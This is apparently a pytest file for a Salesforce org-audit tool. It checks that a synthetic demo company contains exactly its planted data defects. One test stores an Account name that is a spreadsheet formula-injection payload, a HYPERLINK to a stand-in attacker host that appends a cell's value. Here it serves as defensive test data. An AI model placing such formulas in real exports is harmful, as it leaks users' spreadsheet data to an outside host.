"""What was planted in records is there, and nothing else is wrong: each definition is written again as SQL."""

from collections.abc import Iterator

import phonenumbers
import pytest
from email_validator import EmailNotValidError, validate_email

from sf_audit.demo.company.build import Company
from tests.demo.company.defects_as_sql import DEFINITIONS


def planted(company: Company, defect: str, kind: str = "") -> set[str]:
    return {one.id for one in company.planted if one.defect == defect and kind in ("", one.object)}


def found(company: Company, query: str) -> set[str]:
    return {record for (record,) in company.org.rows.execute(query).fetchall()}


@pytest.mark.parametrize("defect", DEFINITIONS)
def test_rows_with_the_defect_are_the_planted_ones(company: Company, defect: str) -> None:
    kind, condition = DEFINITIONS[defect]

    wrong = found(company, f'SELECT Id FROM "{kind}" WHERE {condition}')

    assert wrong == planted(company, defect)
    assert 2 <= len(wrong) <= 60


@pytest.mark.parametrize("kind", ["Account", "Contact", "Lead"])
def test_bad_phones_are_the_planted_ones(company: Company, kind: str) -> None:
    numbers = company.org.rows.execute(f"SELECT Id, Phone FROM {kind} WHERE Phone IS NOT NULL").fetchall()

    wrong = {record for record, number in numbers if not callable_number(number)}

    assert wrong == planted(company, f"{kind.lower()}-bad-phone")


def callable_number(number: str) -> bool:
    try:
        return phonenumbers.is_valid_number(phonenumbers.parse(number, None))
    except phonenumbers.NumberParseException:
        return False


def test_other_phones_can_be_called(company: Company) -> None:
    numbers = company.org.rows.execute("SELECT MobilePhone FROM Contact WHERE MobilePhone IS NOT NULL").fetchall()

    assert all(callable_number(number) for (number,) in numbers)


@pytest.mark.parametrize("kind", ["Contact", "Lead", "User"])
def test_bad_addresses_are_the_planted_ones(company: Company, kind: str) -> None:
    addresses = company.org.rows.execute(f'SELECT Id, Email FROM "{kind}" WHERE Email IS NOT NULL').fetchall()

    wrong = {record for record, address in addresses if not mailable(address)}

    assert wrong == planted(company, f"{kind.lower()}-bad-email")


def mailable(address: str) -> bool:
    try:
        validate_email(address, check_deliverability=False)
    except EmailNotValidError:
        return False
    return True


def inactive_values(company: Company) -> Iterator[tuple[str, str]]:
    for name, one in company.org.objects.items():
        for field in one.fields:
            if field.picklist and field.type in ("picklist", "combobox"):
                active = [value.value for value in field.picklist if value.active]
                query = (
                    f'SELECT Id FROM "{name}" WHERE "{field.name}" IS NOT NULL AND NOT list_contains(?, "{field.name}")'
                )
                for (record,) in company.org.rows.execute(query, [active]).fetchall():
                    yield name, record


def test_values_outside_the_active_ones_are_the_planted_ones(company: Company) -> None:
    wrong = set(inactive_values(company))

    assert wrong == {(one.object, one.id) for one in company.planted if one.defect == "picklist-inactive-value"}
    assert {kind for kind, _ in wrong} == {"Account", "Lead", "Case", "Opportunity"}


def test_every_planted_record_exists(company: Company) -> None:
    for one in company.planted:
        if one.object not in ("CustomObject", "FieldDefinition", "FlowDefinition", "Limit", "PicklistValue"):
            assert found(company, f"SELECT Id FROM \"{one.object}\" WHERE Id = '{one.id}'") == {one.id}


def test_record_has_at_most_one_defect(company: Company) -> None:
    hit = [
        (one.object, one.id)
        for one in company.planted
        if one.object not in ("CustomObject", "User", "FieldDefinition", "Limit")
    ]

    assert len(hit) == len(set(hit))


def test_hostile_text_is_kept_as_it_is(company: Company) -> None:
    names = found(company, "SELECT Name FROM Account")

    assert '=HYPERLINK("https://collect.evil-bikes.com/?"&A1,"Invoice")' in names
    assert "自転車工房 さくら" in names


def test_custom_fields_never_filled_are_the_planted_ones(company: Company) -> None:
    empty = set()
    for name, one in company.org.objects.items():
        for field in one.fields:
            if field.custom and not found(company, f'SELECT 1 FROM "{name}" WHERE "{field.name}" IS NOT NULL LIMIT 1'):
                empty.add(f"{name}.{field.name}")

    assert empty == planted(company, "custom-field-never-filled")


def test_custom_fields_without_description_are_the_planted_ones(company: Company) -> None:
    undescribed = {
        f"{name}.{field.name}"
        for name, one in company.org.objects.items()
        for field in one.fields
        if field.custom and not field.description
    }

    assert undescribed == planted(company, "custom-field-without-description")


def test_limits_above_eighty_per_cent_are_the_planted_ones(company: Company) -> None:
    near = {name for name, (most, left) in company.org.limits.items() if (most - left) / most >= 0.8}

    assert near == planted(company, "limit-near") == {"DataStorageMB", "DailyAsyncApexExecutions"}


def test_every_defect_but_traps_names_the_rule_that_finds_it(company: Company) -> None:
    unnamed = {one.defect for one in company.planted if not one.hint_rule and not one.defect.startswith("trap-")}

    assert unnamed == {"opportunity-closed-lost-no-reason"}
